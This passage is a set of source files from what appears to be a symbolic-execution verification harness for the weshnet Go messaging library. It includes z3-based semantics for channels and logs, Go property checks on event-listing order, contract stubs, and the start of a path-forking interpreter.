        ln = st[op.obj + '.tail'] - st[op.obj + '.head']
        return T_, {}, [z3.BV2Int(op.res, False) == ln]
    if k == 'front':
        return T_, {}, [op.res == z3.Select(st[op.obj + '.arr'], st[op.obj + '.head'])]
    if k == 'pop':
        return T_, {op.obj + '.head': st[op.obj + '.head'] + 1}, []
    if k == 'nbsend':
        c = op.obj
        buf, cap, parked, token = st[c + '.buf'], st[c + '.cap'], st[c + '.parked'], st[c + '.token']
        direct = z3.And(parked, z3.Not(token))
        room = buf < cap
        ok = z3.Or(direct, room)
        upd = {c + '.token': z3.If(direct, z3.BoolVal(True), token),
               c + '.buf': z3.If(z3.And(z3.Not(direct), room), buf + 1, buf)}
        return T_, upd, [op.res == ok]
    if k == 'send':
        c = op.obj
        buf, cap, parked, token = st[c + '.buf'], st[c + '.cap'], st[c + '.parked'], st[c + '.token']
        direct = z3.And(parked, z3.Not(token))
        room = buf < cap
        upd = {c + '.token': z3.If(direct, z3.BoolVal(True), token),
               c + '.buf': z3.If(z3.And(z3.Not(direct), room), buf + 1, buf)}
        return z3.Or(direct, room), upd, []
    if k == 'park':
        upd = {}
        for (kind, name) in op.args[0]:
            if kind == 'chan':
                # a buffered value or a closed channel makes the later wake-up immediately possible; parking only
                # advertises a waiting receiver to non-blocking senders
                upd[name + '.parked'] = z3.BoolVal(True)
        return T_, upd, []
    if k == 'wake':
        # enabled iff SOME alternative is ready (a state predicate); the alternative taken on this goroutine path
        # (op.res, fixed by its path condition) must be one of the ready ones (binding)
        alts = op.args[0]
        ready, upd = [], {}
        handed = [st[n2 + '.token'] for (k2, n2) in alts if k2 == 'chan']
        for i, (kind, name) in enumerate(alts):
            if kind == 'chan':
                ready.append(z3.Or(st[name + '.token'], st[name + '.buf'] > 0, st[name + '.closed']))
            elif kind == 'ctx':
                # a receiver that has been handed a value is committed to that case
                ready.append(z3.And(st[name + '.cancelled'], *[z3.Not(h) for h in handed]))
            elif kind == 'always':
                ready.append(z3.And(*[z3.Not(h) for h in handed]) if handed else z3.BoolVal(True))
            else:
                ready.append(z3.BoolVal(False))
        for i, (kind, name) in enumerate(alts):
            if kind == 'chan':
                chosen = op.res == i
                tok, buf = st[name + '.token'], st[name + '.buf']
                upd[name + '.token'] = z3.If(chosen, z3.BoolVal(False), tok)
                upd[name + '.buf'] = z3.If(z3.And(chosen, z3.Not(tok), buf > 0), buf - 1, buf)
                upd[name + '.parked'] = z3.BoolVal(False)
        bind = [z3.Implies(op.res == i, r) for i, r in enumerate(ready)]
        return (z3.Or(*ready) if ready else z3.BoolVal(False)), upd, bind
    if k == 'close':
        return T_, {op.obj + '.closed': z3.BoolVal(True)}, []
    if k == 'ctxerr':
        return T_, {}, [op.res == st[op.obj + '.cancelled']]
    if k == 'cancel':
        return T_, {op.obj + '.cancelled': z3.BoolVal(True)}, []
    if k in ('assert', 'observe', 'sassert'):
        return T_, {}, []
    if k == 'dsget':
        key = op.args[0]
        pres, val = op.res
        return T_, {}, [pres == z3.Select(st[op.obj + '.pres'], key), z3.Implies(pres, val == z3.Select(st[op.obj + '.val'], key))]
    if k == 'dsmut':
        p_, v_ = st[op.obj + '.pres'], st[op.obj + '.val']
        for (what, key, value) in op.args[0]:
            if what == 'put':
                p_ = z3.Store(p_, key, z3.BoolVal(True))
                v_ = z3.Store(v_, key, value)
            else:
                p_ = z3.Store(p_, key, z3.BoolVal(False))
        return T_, {op.obj + '.pres': p_, op.obj + '.val': v_}, []
    if k == 'read':
        return T_, {}, [op.res == st[op.obj]]
    if k == 'write':
        return T_, {op.obj: op.args[0]}, []
    if k == 'custom':
        return op.args[0](st, tid)
    raise Inconclusive('BMC semantics of op ' + k)
