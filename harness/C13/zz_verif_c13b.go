package weshnet

import (
	"context"

	"go.uber.org/zap"

	"berty.tech/weshnet/v2/pkg/protocoltypes"
)

// VerifC13Source: ListEvents of a store whose log holds n causally ordered events that ARRIVED in a free order must
// deliver them in log order (oldest first), or exactly reversed, whatever the arrival order.
func VerifC13Source(n int) {
	ctx := verif_background()
	m, _ := verifAccountStore("acct")
	for i := 0; i < n; i++ {
		var err error
		if i%2 == 0 {
			_, err = m.ContactRequestEnable(ctx)
		} else {
			_, err = m.ContactRequestDisable(ctx)
		}
		verif_assume(err == nil)
	}
	log := verif_storeLog(&m.BaseStore)
	canon := log.Values().Slice()
	verif_assume(len(canon) == n)
	verif_logPermute(log)
	reverse := verif_anyBool("reverse")
	ch, err := m.ListEvents(ctx, nil, nil, reverse)
	verif_assert(err == nil, "C13.source: listing succeeds")
	if err != nil {
		return
	}
	var got []*protocoltypes.GroupMetadataEvent
	for ev := range ch {
		got = append(got, ev)
	}
	verif_assert(len(got) == n, "C13.source: every event is listed once")
	if len(got) != n {
		return
	}
	for i := 0; i < n; i++ {
		want := canon[i]
		if reverse {
			want = canon[n-1-i]
		}
		verif_assert(verif_bytesEq(got[i].EventContext.Id, want.GetHash().Bytes()), "C13.source: listing follows log order (oldest first, or exactly reversed), not arrival order")
	}
	verif_reach("C13.source.ok")
}

// VerifC13MsgSource: the same for MessageStore.ListEvents: n messages of one sender whose key is known, log entries that
// ARRIVED in a free order, listed oldest first or exactly reversed, each with its original payload.
func VerifC13MsgSource(n int) {
	w := c08Setup(n)
	verif_assume(w.rcv.RegisterChainKey(w.ctx, w.g, w.sndDev, w.enc) == nil)
	canon := w.log.Values().Slice()
	verif_assume(len(canon) == n)
	// the store has processed its log (the consumer loop opens every message once, in counter order for one sender, and
	// the message keys are then found by entry id): a listing re-opens them in whatever order it is asked for
	for _, e := range canon {
		_, err := w.store.openMessage(w.ctx, e)
		verif_assume(err == nil)
	}
	verif_logPermute(w.log)
	reverse := verif_anyBool("reverse")
	ch, err := w.store.ListEvents(w.ctx, nil, nil, reverse)
	verif_assert(err == nil, "C13.msgsource: listing succeeds")
	if err != nil {
		return
	}
	var got []*protocoltypes.GroupMessageEvent
	for ev := range ch {
		got = append(got, ev)
	}
	verif_assert(len(got) == n, "C13.msgsource: every message is listed once")
	if len(got) != n {
		return
	}
	for i := 0; i < n; i++ {
		k := i
		if reverse {
			k = n - 1 - i
		}
		verif_assert(verif_bytesEq(got[i].EventContext.Id, canon[k].GetHash().Bytes()), "C13.msgsource: listing follows log order (oldest first, or exactly reversed), not arrival order")
		verif_assert(verif_bytesEq(got[i].Message, w.plain[k]), "C13.msgsource: a listed message carries its original payload")
	}
	verif_reach("C13.msgsource.ok")
}

func verif_metadataListStream(ctx context.Context) protocoltypes.ProtocolService_GroupMetadataListServer {
	panic("intrinsic")
}
func verif_streamSentCount(s protocoltypes.ProtocolService_GroupMetadataListServer) int { panic("intrinsic") }
func verif_streamSentAt(s protocoltypes.ProtocolService_GroupMetadataListServer, i int) *protocoltypes.GroupMetadataEvent {
	panic("intrinsic")
}

// VerifC13UntilNow: the GroupMetadataList RPC with until_now on an account log of n events, under the symbolic scheduler
// (DESIGN 4b): the handler, the listing goroutine of MetadataStore.ListEvents and the forwarding goroutine run
// concurrently. When nothing can move any more the RPC has returned without error and has streamed exactly the store's
// listing -- every event once, oldest first, or exactly reversed.
func VerifC13UntilNow(n int) {
	ctx := verif_background()
	ss := verifSecretStore("svc")
	g, _, err := ss.GetGroupForAccount()
	verif_assume(err == nil)
	m := verifMetadataStore(ss, g)
	md, err := ss.GetOwnMemberDeviceForGroup(g)
	verif_assume(err == nil)
	gc := &GroupContext{group: g, metadataStore: m, secretStore: ss, ownMemberDevice: md, logger: zap.NewNop()}
	s := &service{logger: zap.NewNop(), secretStore: ss, openedGroups: map[string]*GroupContext{string(g.PublicKey): gc}, accountGroupCtx: gc}
	for i := 0; i < n; i++ {
		var err error
		if i%2 == 0 {
			_, err = m.ContactRequestEnable(ctx)
		} else {
			_, err = m.ContactRequestDisable(ctx)
		}
		verif_assume(err == nil)
	}
	canon := verif_storeLog(&m.BaseStore).Values().Slice()
	verif_assume(len(canon) == n)
	reverse := verif_anyBool("reverse")
	req := &protocoltypes.GroupMetadataList_Request{GroupPk: s.accountGroupCtx.group.PublicKey, UntilNow: true, ReverseOrder: reverse}
	sctx, _ := verif_cancelCtx(ctx)
	stream := verif_metadataListStream(sctx)
	returned := false
	var rerr error
	verif_go("rpc", func() {
		rerr = s.GroupMetadataList(req, stream)
		returned = true
	})
	verif_quiesce()
	verif_assert(returned, "C13.untilnow: the listing RPC returns once the history has been replayed")
	if !returned {
		return
	}
	verif_assert(rerr == nil, "C13.untilnow: and returns without error")
	verif_assert(verif_streamSentCount(stream) == n, "C13.untilnow: every event of the history is streamed exactly once")
	if verif_streamSentCount(stream) != n {
		return
	}
	for i := 0; i < n; i++ {
		k := i
		if reverse {
			k = n - 1 - i
		}
		verif_assert(verif_bytesEq(verif_streamSentAt(stream, i).EventContext.Id, canon[k].GetHash().Bytes()), "C13.untilnow: in log order (oldest first, or exactly reversed)")
	}
	verif_reach("C13.untilnow.ok")
}
