"""Contracts for go-orbit-db BaseStore / operations, go-ipfs-log Log and ordered maps, tyber, enum strings
(DESIGN Appendix B). The log is an explicit object: Values() = canonical (causal) order, GetEntries() = arrival order,
which the harness may permute freely."""
import itertools
import z3
from ..values import *
from .. import terms as T
from .base import mk_error, gostr
from . import ipfslog

BS = '(*berty.tech/go-orbit-db/stores/basestore.BaseStore).'
TY = 'berty.tech/weshnet/v2/pkg/tyber.'


def new_log(I):
    return Native('oplog', entries=[], arrival=None, as_iface=True)


def log_iface(I, log):
    return Iface(-50, log)


def new_entry(I, log, op, cid_term=None):
    k = len(log.entries)
    if cid_term is None:
        g = I.path.ghost
        n = g.get('entry_ids', 0) + 1
        g['entry_ids'] = n
        cid_term = T.lit_bytes(b'entry-cid-%d' % n)
    g2 = I.path.ghost
    sq = g2.get('entry_seq', 0) + 1
    g2['entry_seq'] = sq
    e = Native('entry', t=cid_term, idx=k, op=op, seq=sq, as_iface=True)
    try:
        op.entry = Iface(-10, e)
    except Exception:
        pass
    log.entries.append(e)
    return Iface(-10, e)


def arrival_order(I, log):
    ents = list(log.entries)
    if log.arrival is None:
        return ents
    perm = log.arrival
    if len(perm) != len(ents):
        return ents
    return [ents[i] for i in perm]


def install(I):
    C, M, N = I.contracts, I.methods, I.intrinsics

    def omap(I, ents):
        return Iface(-51, Native('orderedmap', ents=list(ents), as_iface=True))

    def entries_slice(I, ents):
        vs = [Iface(-10, e) for e in ents]
        return SliceVal(AV(vs), 0, len(vs), len(vs))

    M[('oplog', 'GetEntries')] = lambda I, a, ins: omap(I, arrival_order(I, a[0]))
    # Values(): the deterministic log order -- a function of the entry set (here: global creation order, which extends
    # causality), whatever the order in which the entries were inserted into this replica's log
    M[('oplog', 'Values')] = lambda I, a, ins: omap(I, sorted(a[0].entries, key=lambda e: getattr(e, 'seq', 0)))
    M[('oplog', 'Len')] = lambda I, a, ins: len(a[0].entries)
    M[('orderedmap', 'Slice')] = lambda I, a, ins: entries_slice(I, a[0].ents)
    M[('orderedmap', 'Len')] = lambda I, a, ins: len(a[0].ents)

    def om_reverse(I, args, ins):
        args[0].ents.reverse()
        return Iface(-51, args[0])
    M[('orderedmap', 'Reverse')] = om_reverse

    M[('entry', 'GetHash')] = lambda I, a, ins: ipfslog.cid_value(I, a[0].t)
    M[('entry', 'GetNext')] = lambda I, a, ins: SliceVal(AV([]), 0, 0, 0)

    # ---------------- libp2p event emitters: emissions are recorded in order
    def v_emitter(I, args, ins):
        return Iface(-53, Native('emitter', name=gostr(I, args[0]) if not isinstance(args[0], str) else args[0], items=[], as_iface=True))

    def em_emit(I, args, ins):
        sp = getattr(I, 'sync_point', None)
        if sp is not None:
            sp('Emit', ins)
        args[0].items.append(args[1])
        return None

    N['verif_emitter'] = v_emitter
    N['verif_emittedCount'] = lambda I, a, ins: len(a[0].v.items)
    N['verif_emittedAt'] = lambda I, a, ins: a[0].v.items[a[1] if isinstance(a[1], int) else I.concretize(a[1], 'emitted-index')]
    M[('emitter', 'Emit')] = em_emit
    M[('emitter', 'Close')] = lambda I, a, ins: None
    for _m in ('ItemQueued', 'ItemPop'):
        C['(*berty.tech/weshnet/v2.messageMetricsTracer).' + _m] = lambda I, a, ins: None
    M[('entry', 'GetPayload')] = lambda I, a, ins: I.bytes_value(I.bytes_term(a[0].op.value)) if hasattr(I, 'bytes_value') else a[0].op.value

    def new_operation(I, args, ins):
        key, opname, value = args
        return Iface(-52, Native('operation', key=key, op=opname, value=value, as_iface=True))

    def parse_operation(I, args, ins):
        e = args[0]
        if e is None:
            return (None, mk_error(I, 'nil entry'))
        return (Iface(-52, e.v.op), None)

    C['berty.tech/go-orbit-db/stores/operation.NewOperation'] = new_operation
    C['berty.tech/go-orbit-db/stores/operation.ParseOperation'] = parse_operation
    M[('operation', 'GetValue')] = lambda I, a, ins: a[0].value
    M[('operation', 'GetKey')] = lambda I, a, ins: a[0].key
    M[('operation', 'GetOperation')] = lambda I, a, ins: a[0].op
    M[('operation', 'GetEntry')] = lambda I, a, ins: getattr(a[0], 'entry', None)

    # ---------------- BaseStore (keyed by the identity of the embedded struct)
    def bs_state(I, p):
        tab = I.path.ghost.setdefault('basestores', {})
        sv = p.load() if isinstance(p, Ptr) else p
        key = id(sv)
        st = tab.get(key)
        if st is None:
            st = {'index': None, 'log': new_log(I), 'emitted': [], 'sv': sv, 'fail_append': False}
            tab[key] = st
        return st

    I.bs_state = lambda p: bs_state(I, p)

    def bs_index(I, args, ins):
        return bs_state(I, args[0])['index']

    def bs_oplog(I, args, ins):
        return log_iface(I, bs_state(I, args[0])['log'])

    def bs_add_operation(I, args, ins):
        p, ctx, op, onprogress = args
        st = bs_state(I, p)
        I.path.ghost['appended'] = I.path.ghost.get('appended', 0) + 1
        e = new_entry(I, st['log'], op.v)
        idx = st['index']
        if idx is not None:
            err = I.invoke(idx, 'UpdateIndex', [log_iface(I, st['log']), None], ins)
            if err is not None:
                return (None, err)
        return (e, None)

    C[BS + 'Index'] = bs_index
    C[BS + 'OpLog'] = bs_oplog
    C[BS + 'AddOperation'] = bs_add_operation
    C[BS + 'EventBus'] = lambda I, a, ins: None

    def v_bind_store(I, args, ins):
        p, index = args
        bs_state(I, p)['index'] = index
        return None

    def v_store_log(I, args, ins):
        return log_iface(I, bs_state(I, args[0])['log'])

    def v_appended(I, args, ins):
        return I.path.ghost.get('appended', 0)

    def v_new_log(I, args, ins):
        return log_iface(I, new_log(I))

    def v_log_append(I, args, ins):
        log, value = args
        op = Native('operation', key=None, op='ADD', value=value, as_iface=True)
        return new_entry(I, log.v, op)

    def v_log_permute(I, args, ins):
        """from now on GetEntries() presents the entries in a FREE arrival order (a permutation chosen by the solver)"""
        log = args[0].v
        n = len(log.entries)
        perms = list(itertools.permutations(range(n)))
        k = I.fresh_int('arrival-permutation')
        I.register_input('arrival-permutation', k)
        i = I.decide([k == j for j in range(len(perms))], 'arrival-order')
        log.arrival = list(perms[i])
        I.path.events.append('arrival order %s' % (log.arrival,))
        return None

    def v_log_copy(I, args, ins):
        src = args[0].v
        l = new_log(I)
        l.entries = list(src.entries)
        return log_iface(I, l)

    def v_log_view(I, args, ins):
        """a replica's partial view: a log holding a FREE subset of the entries (solver-chosen), in the same log order.
        Views need not be causally closed: entries of different devices are concurrent branches, and the index only
        ever sees Values()."""
        src = args[0].v
        n = len(src.entries)
        mask = I.fresh_int('view-mask')
        I.register_input('view-mask', mask)
        i = I.decide([mask == j for j in range(2 ** n)], 'log-view')
        l = new_log(I)
        l.entries = [e for b, e in enumerate(src.entries) if (i >> b) & 1]
        I.path.events.append('partial view %s of %d entries' % (bin(i), n))
        return log_iface(I, l)

    def v_log_share(I, args, ins):
        """replication: the SAME entry (same CID, same bytes) becomes part of another replica's log"""
        dst, e = args[0].v, args[1].v
        if any(x is e for x in dst.entries):
            return False
        dst.entries.append(e)
        return True

    N['verif_logShare'] = v_log_share
    N['verif_logView'] = v_log_view
    N['verif_bindStore'] = v_bind_store
    N['verif_storeLog'] = v_store_log
    N['verif_appended'] = v_appended
    N['verif_newLog'] = v_new_log
    N['verif_logAppend'] = v_log_append
    N['verif_logPermute'] = v_log_permute
    N['verif_logCopy'] = v_log_copy

    # ---------------- tyber: no effect
    def ctx_with_trace(I, args, ins):
        return (args[0], False)

    C[TY + 'ContextWithTraceID'] = ctx_with_trace
    C[TY + 'ContextWithConstantTraceID'] = lambda I, a, ins: a[0]
    C[TY + 'ContextWithoutTraceID'] = lambda I, a, ins: a[0]
    C[TY + 'GetTraceIDFromContext'] = lambda I, a, ins: ''
    for n in ('FormatStepLogFields', 'FormatTraceLogFields', 'FormatEventLogFields', 'FormatSubscribeLogFields'):
        C[TY + n] = lambda I, a, ins: None
    for n in ('LogStep', 'LogTraceStart', 'LogTraceEnd'):
        C[TY + n] = lambda I, a, ins: None
    C[TY + 'LogError'] = lambda I, a, ins: a[3]
    C[TY + 'LogFatalError'] = lambda I, a, ins: a[3]
    for n in ('WithDetail', 'WithJSONDetail', 'UpdateTraceName', 'WithCIDDetail'):
        C[TY + n] = lambda I, a, ins: None

    # ---------------- enum String()
    PT = 'berty.tech/weshnet/v2/pkg/protocoltypes.'
    for en in ('EventType', 'GroupType', 'ContactState'):
        def mkf(en):
            def f(I, a, ins):
                v = a[0]
                return '%s%s' % (en, v if isinstance(v, int) else '?')
            return f
        C['(%s%s).String' % (PT, en)] = mkf(en)

    # ---------------- proto.Clone of an (empty template) message
    def proto_clone(I, args, ins):
        m = args[0]
        if m is None:
            return None
        t = I.prog.types.get(m.tid)
        st = t.under().elemt()
        src = m.v.load()
        if hasattr(I, 'marshal_struct'):
            pass
        return Iface(m.tid, Ptr([copyval(src)], 0))

    C['google.golang.org/protobuf/proto.Clone'] = proto_clone

    # ---------------- access-controller address: injective in the access map (JSON + hash by contract)
    def json_marshal(I, args, ins):
        v = args[0]
        m = v.v if isinstance(v, Iface) else v
        if isinstance(m, MapVal):
            parts = []
            items = sorted(m.items, key=lambda kv: kv[0] if isinstance(kv[0], str) else '~')
            for k, val in items:
                els = val.elems() if val is not None else []
                parts.append(T.app('kv', I.str_term(k), *[I.str_term(e) for e in els]))
            t = T.app('json', *parts)
            I.add(T.blen(t) >= 2)
            return (TermBytes(t), None)
        raise Inconclusive('json.Marshal of %r' % (m,))

    C['encoding/json.Marshal'] = json_marshal

    def prefix_sum(I, args, ins):
        pref, data = args
        t = T.app('cidsum', I.bytes_term(data))
        I.add(T.blen(t) >= 1)
        return (ipfslog.cid_value(I, t), None)

    C['(github.com/ipfs/go-cid.Prefix).Sum'] = prefix_sum

    def ac_get(field):
        def f(I, args, ins):
            p = args[0]
            sv = p.load()
            t = I.prog.types.get(sv.tid)
            for i, fl in enumerate(t.under().fields):
                if fl['name'] == field:
                    return copyval(sv[i])
            raise Inconclusive('field %s of access controller options' % field)
        return f

    AC = '(*berty.tech/go-orbit-db/accesscontroller.CreateAccessControllerOptions).'
    C[AC + 'GetAddress'] = ac_get('Address')
    C[AC + 'GetType'] = ac_get('Type')
    C[AC + 'GetSkipManifest'] = ac_get('SkipManifest')

    # ---------------- sequential relay of `go func(){...}()` with channels as recorded output lists
    def go_stmt(I, args, ins):
        f, fargs = args
        if isinstance(f, tuple):
            _, recv, meth = f
            I.invoke(recv, meth, fargs, ins)
        else:
            I.call_value(f, fargs, ins)
        return None

    def chan_make(I, args, ins):
        return Chan(1 << 30, name='relay')

    def chan_send(I, args, ins):
        ch, v = args
        if ch is None:
            raise GoPanic('deadlock', 'send on nil channel', ins.get('pos', ''))
        if ch.closed:
            raise GoPanic('send-on-closed', None, ins.get('pos', ''))
        ch.buf.append(v)
        return None

    def chan_recv(I, args, ins):
        ch, commaok = args
        if ch is None:
            raise GoPanic('deadlock', 'receive from nil channel', ins.get('pos', ''))
        if ch.buf:
            v = ch.buf.pop(0)
            return (v, True) if commaok else v
        if ch.closed:
            z = I.zero(I.prog.types[ins['t']]) if not commaok else I.zero(I.prog.types[ins['t']])[0]
            return (z, False) if commaok else z
        raise GoPanic('deadlock', 'receive on an empty open channel with no other goroutine', ins.get('pos', ''))

    I.relay_contracts = {'go': go_stmt, 'chan.make': chan_make, 'chan.send': chan_send, 'chan.recv': chan_recv}


def install_relay(I):
    I.contracts.update(I.relay_contracts)
