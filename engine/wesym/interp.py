"""Path-forking symbolic interpreter over go/ssa (DESIGN 2.2).

Forking is done by re-execution: a path is identified by its list of decisions; when a new
symbolic decision has several feasible outcomes the first is followed and the others are queued
as decision prefixes. Execution is deterministic given the decision list.
"""
import sys, time, copy
import z3
from .values import *
from . import terms as T
from .prog import INT_KINDS

sys.setrecursionlimit(100000)


def mask(bits):
    return (1 << bits) - 1


def norm(v, bits, signed):
    v &= (1 << bits) - 1
    if signed and v >> (bits - 1):
        v -= 1 << bits
    return v


def tobv(v, bits):
    if isinstance(v, bool):
        v = int(v)
    if isinstance(v, int):
        return z3.BitVecVal(v & mask(bits), bits)
    return v


def is_intmode(v):
    return isinstance(v, z3.ArithRef)


def zbool(v):
    if isinstance(v, bool):
        return z3.BoolVal(v)
    return v


def znot(c):
    if isinstance(c, bool):
        return not c
    return z3.Not(c)


def zand(*cs):
    out = []
    for c in cs:
        if c is True:
            continue
        if c is False:
            return False
        out.append(c)
    if not out:
        return True
    if len(out) == 1:
        return out[0]
    return z3.And(*out)


def zor(*cs):
    out = []
    for c in cs:
        if c is False:
            continue
        if c is True:
            return True
        out.append(c)
    if not out:
        return False
    if len(out) == 1:
        return out[0]
    return z3.Or(*out)


def simp_bool(c):
    if isinstance(c, bool):
        return c
    c = z3.simplify(c)
    if z3.is_true(c):
        return True
    if z3.is_false(c):
        return False
    return c


def simp_int(v, bits, signed):
    if isinstance(v, int):
        return norm(v, bits, signed)
    if is_intmode(v):
        v = z3.simplify(v)
        if z3.is_int_value(v):
            return v.as_long()
        return v
    v = z3.simplify(v)
    if z3.is_bv_value(v):
        return norm(v.as_long(), bits, signed)
    return v


class Frame:
    __slots__ = ('fn', 'params', 'freevars', 'regs', 'defers', 'symvisits', 'panicking', 'recovered', 'results')

    def __init__(self, fn, params, freevars):
        self.fn = fn
        self.params = params
        self.freevars = freevars
        self.regs = {}
        self.defers = []
        self.symvisits = {}
        self.panicking = None
        self.recovered = False


class Stats:
    def __init__(self):
        self.queries = 0
        self.solver_s = 0.0
        self.instrs = 0
        self.unknown = 0


class PathCtx:
    """everything that belongs to one path run"""

    def __init__(self, prefix, timeout_ms):
        self.prefix = list(prefix)
        self.pos = 0
        self.trace = []
        self.alts = []
        self.solver = z3.Solver()
        self.solver.set('timeout', timeout_ms)
        self.pc = []
        self.fresh = 0
        self.inputs = []  # (name, expr)
        self.obligations = []  # dicts
        self.violations = []
        self.notes = []
        self.unknown_branches = 0
        self.ghost = {}
        self.events = []


class Interp:
    def __init__(self, prog, contracts=None, intrinsics=None, methods=None, globals_init=None, config=None):
        self.prog = prog
        self.contracts = dict(contracts or {})
        self.intrinsics = dict(intrinsics or {})
        self.methods = dict(methods or {})  # (native kind, method) -> callable
        self.globals_init = dict(globals_init or {})
        self.cfg = {'unwind': 8, 'max_instrs': 3_000_000, 'timeout_ms': 20000, 'max_depth': 400,
                    'lenient_init': True}
        self.cfg.update(config or {})
        self.stats = Stats()
        self.funcs_executed = {}
        self.contracts_used = set()
        self.const_cache = {}
        self.init_globals = None  # snapshot after package initialisers
        self.path = None
        self.depth = 0
        self.lenient = False
        self.callstack = []

    # ------------------------------------------------------------------ solver
    def add(self, c):
        if c is True:
            return
        if c is False:
            raise PathEnd('false constraint')
        self.path.pc.append(c)
        self.path.solver.add(c)

    def check(self, *assumptions):
        """sat / unsat / unknown of pc /\\ assumptions"""
        asm = []
        for a in assumptions:
            if a is True:
                continue
            if a is False:
                return z3.unsat
            asm.append(a)
        t0 = time.time()
        r = self.path.solver.check(*asm)
        self.stats.solver_s += time.time() - t0
        self.stats.queries += 1
        if r == z3.unknown:
            self.stats.unknown += 1
        return r

    def feasible(self, c):
        c = simp_bool(c)
        if c is True:
            return True
        if c is False:
            return False
        r = self.check(c)
        if r == z3.unknown:
            self.path.unknown_branches += 1
            return True
        return r == z3.sat

    def implied(self, c):
        """pc |= c ?  (unknown counts as not implied)"""
        c = simp_bool(c)
        if c is True:
            return True
        if c is False:
            return False
        return self.check(z3.Not(c)) == z3.unsat

    def decide(self, conds, label=''):
        """choose one of the mutually exclusive alternatives `conds`; returns the index"""
        p = self.path
        conds = [simp_bool(c) for c in conds]
        live = [i for i, c in enumerate(conds) if c is not False]
        if len(live) == 1 and conds[live[0]] is True:
            return live[0]
        if p.pos < len(p.prefix):
            i = p.prefix[p.pos]
            p.pos += 1
            p.trace.append(i)
            self.add(conds[i])
            return i
        feas = []
        for i in live:
            if conds[i] is True or self.feasible(conds[i]):
                feas.append(i)
        if not feas:
            raise PathEnd('no feasible alternative at ' + label)
        for j in feas[1:]:
            p.alts.append(p.trace + [j])
        p.trace.append(feas[0])
        p.pos += 1
        p.prefix.append(feas[0])
        self.add(conds[feas[0]])
        return feas[0]

    def fork_bool(self, c, label=''):
        c = simp_bool(c)
        if isinstance(c, bool):
            return c
        return self.decide([c, z3.Not(c)], label) == 0

    def concretize(self, e, label='', lo=None, hi=None, maxn=64):
        """fork over the feasible values of integer expression e.

        Decisions are recorded by VALUE (('v', value) / ('x', excluded values)) so that re-execution of a
        prefix is independent of which model the solver happens to return."""
        if isinstance(e, int):
            return e
        e = z3.simplify(e)
        if z3.is_bv_value(e) or z3.is_int_value(e):
            return e.as_long()
        p = self.path
        excluded = []
        if p.pos < len(p.prefix):
            d = p.prefix[p.pos]
            p.pos += 1
            excluded = list(d[2]) if d[0] == 'v' else list(d[1])
            for v in excluded:
                self.add(e != v)
            if d[0] == 'v':
                p.trace.append(d)
                self.add(e == d[1])
                return d[1]
            # ('x', excluded): pick a fresh value below; the prefix element is rewritten in its 'v' form
            p.prefix = p.prefix[:p.pos - 1]
            p.pos -= 1
        if len(excluded) >= maxn:
            raise Inconclusive('concretize: more than %d values for %s' % (maxn, label))
        r = self.check()
        if r != z3.sat:
            if r == z3.unknown:
                raise Inconclusive('solver unknown in concretize ' + label)
            raise PathEnd('infeasible')
        m = p.solver.model()
        vv = m.eval(e, model_completion=True).as_long()
        other = self.check(e != vv)
        if other == z3.unknown:
            p.unknown_branches += 1
        if other != z3.unsat:
            p.alts.append(p.trace + [('x', excluded + [vv])])
        d = ('v', vv, tuple(excluded))
        p.trace.append(d)
        p.prefix.append(d)
        p.pos += 1
        self.add(e == vv)
        return vv

    def fresh_name(self, base):
        self.path.fresh += 1
        return '%s!%d' % (base, self.path.fresh)

    def fresh_bv(self, base, bits):
        v = z3.BitVec(self.fresh_name(base), bits)
        return v

    def fresh_int(self, base):
        return z3.Int(self.fresh_name(base))

    def fresh_bool(self, base):
        return z3.Bool(self.fresh_name(base))

    def fresh_term(self, base, minlen=0):
        t = z3.Const(self.fresh_name(base), T.Term)
        self.add(T.blen(t) >= minlen)
        if minlen == 0:
            # the empty byte string has one representation
            self.add(z3.Implies(T.blen(t) == 0, t == T.lit_bytes(b'')))
        return t

    def register_input(self, name, expr):
        self.path.inputs.append((name, expr))

    # ------------------------------------------------------------------ obligations
    def obligation(self, cond, msg, pos=''):
        p = self.path
        cond = simp_bool(cond)
        ob = {'msg': msg, 'pos': pos, 'status': None, 'path': list(p.trace), 'decisions': len(p.trace)}
        p.obligations.append(ob)
        if cond is True:
            ob['status'] = 'discharged'
            ob['trivial'] = len(p.trace) == 0
            return True
        neg = znot(cond)
        r = self.check() if neg is True else self.check(neg)
        if r == z3.unsat and neg is True:
            p.obligations.pop()
            raise PathEnd('assertion reached on an infeasible path')
        if r == z3.unsat:
            ob['status'] = 'discharged'
            ob['smt2'] = None
            if self.cfg.get('keep_smt2'):
                ob['smt2'] = self.smt2_of(neg)
            self.add(cond)
            return True
        if r == z3.unknown:
            ob['status'] = 'unknown'
            self.add(cond)
            return False
        m = self.path.solver.model()
        ob['status'] = 'violated'
        ob['model'] = self.render_model(m)
        ob['zmodel'] = m
        if self.cfg.get('keep_smt2'):
            ob['smt2'] = self.smt2_of(neg)
        p.violations.append(ob)
        # continue under the assumption that it held (other assertions are still checked)
        if cond is False or not self.feasible(cond):
            raise PathEnd('assertion always fails on this path')
        self.add(cond)
        return False

    def smt2_of(self, extra):
        s = z3.Solver()
        for c in self.path.pc:
            s.add(c)
        if extra is not True:
            s.add(extra)
        return s.to_smt2()

    def render_model(self, m):
        out = {}
        for name, e in self.path.inputs:
            try:
                if isinstance(e, (int, bool, str)):
                    out[name] = e
                    continue
                v = m.eval(e, model_completion=True)
                if v.sort() == T.Term:
                    out[name] = T.term_str(v)
                elif z3.is_bv_value(v) or z3.is_int_value(v):
                    out[name] = v.as_long()
                else:
                    out[name] = str(v)
            except Exception as ex:  # pragma: no cover
                out[name] = '?' + str(ex)
        return out

    # ------------------------------------------------------------------ types / zero values
    def zero(self, t):
        u = t.under()
        k = u.kind
        if k == 'basic':
            n = u.name
            if n in INT_KINDS:
                return 0
            if n in ('bool', 'untyped bool'):
                return False
            if n in ('string', 'untyped string'):
                return ''
            if n in ('float64', 'float32', 'untyped float'):
                return 0.0
            if n == 'unsafe.Pointer' or n == 'untyped nil':
                return None
            return None
        if k == 'struct':
            return SV((self.zero(self.prog.types[f['t']]) for f in u.fields), t.id)
        if k == 'array':
            et = u.elemt()
            if u.len > 1 << 20:
                raise Inconclusive('array too large')
            z = self.zero(et)
            if isinstance(z, (SV, AV)):
                return AV(copyval(z) for _ in range(u.len))
            return AV([z] * u.len)
        if k == 'tuple':
            return tuple(self.zero(self.prog.types[f['t']]) for f in u.fields)
        return None

    def const(self, op):
        key = (op[1], op[2])
        tid, v = op[1], op[2]
        t = self.prog.types[tid]
        if v is None:
            return self.zero(t)
        if isinstance(v, bool):
            return v
        tag, body = v[:2], v[2:]
